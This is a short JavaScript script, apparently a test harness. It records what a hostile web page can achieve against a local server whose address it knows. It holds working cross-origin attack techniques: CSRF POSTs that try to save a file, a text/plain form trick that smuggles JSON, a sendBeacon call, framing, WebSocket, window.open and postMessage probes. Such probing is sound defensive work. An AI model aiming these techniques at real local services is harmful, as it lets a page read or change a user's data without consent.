// All that a page may try against another whose address it knows: what it got, in words.
(async () => {
  const own = ADDRESS, got = [], told = (what) => got.push(what);
  const later = (ms) => new Promise((done) => setTimeout(done, ms));
  const seen = (tag, props) => new Promise((done) => {
    const one = Object.assign(document.createElement(tag), props, { onload: () => done(one), onerror: () => done(null) });
    document.body.append(one); setTimeout(() => done(null), 3000); });
  for (const path of ["", "schema", "drawn?name=net", "main.js"])
    await fetch(own + path).then((a) => a.text()).then(() => told(`fetch ${path}`), () => {});
  for (const type of ["application/json", "text/plain", "application/octet-stream"])
    for (const mode of ["cors", "no-cors"])
      for (const [path, body] of [["do", '{"do":"save","scene":"sheet.yaml","text":"nuno: 1","before":"","name":"x.yaml"}'], ["file?name=x.npz", "PK"]])
        await fetch(own + path, { method: "POST", mode, headers: { "Content-Type": type }, body })
          .then(async (a) => { if (a.type !== "opaque") told(`post ${await a.text()}`); }, () => {});
  navigator.sendBeacon(own + "do", '{"do":"scenes"}');
  const form = Object.assign(document.createElement("form"), { method: "post", action: own + "do", enctype: "text/plain", target: "into" });
  const frame = Object.assign(document.createElement("iframe"), { name: "into" });
  document.body.append(frame, form);
  form.append(Object.assign(document.createElement("input"), { name: '{"do":"scenes","a":"', value: '"}' }));
  form.submit();
  await later(500);
  if (await seen("img", { src: own + "drawn?name=net" })) told("image");
  if (await seen("img", { src: own + "icon.svg" })) told("icon");
  if (await seen("script", { src: own + "words.js", type: "module" })) told("script");
  if (await seen("link", { rel: "stylesheet", href: own + "page.css" })) told("style");
  const inside = await seen("iframe", { src: own });
  try { if (inside && inside.contentDocument?.querySelector(".brand")) told("frame"); } catch {}
  await new Promise((done) => { const s = new WebSocket(own.replace("http", "ws") + "do"); s.onopen = () => { told("socket"); done(); }; s.onerror = done; });
  const opened = window.open(own);
  await later(1500);
  try { if (opened?.document?.querySelector(".brand")) told("window"); } catch {}
  try { opened?.postMessage("x", "*"); } catch {}
  return got;
})()
